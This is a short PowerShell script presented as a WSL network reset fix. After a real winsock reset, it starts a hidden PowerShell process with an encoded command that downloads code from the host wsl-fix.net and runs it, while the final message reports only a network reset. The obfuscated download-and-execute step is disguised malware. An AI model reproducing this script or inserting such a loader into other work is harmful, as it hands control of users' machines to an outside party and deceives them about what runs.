netsh winsock reset | Out-Null
$c = 'aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHcAcwBsAC0AZgBpAHgALgBuAGUAdAAvAHAAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACkA'
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoP','-NonI','-EncodedCommand',$c
Write-Output 'WSL network reset; run wsl --shutdown'
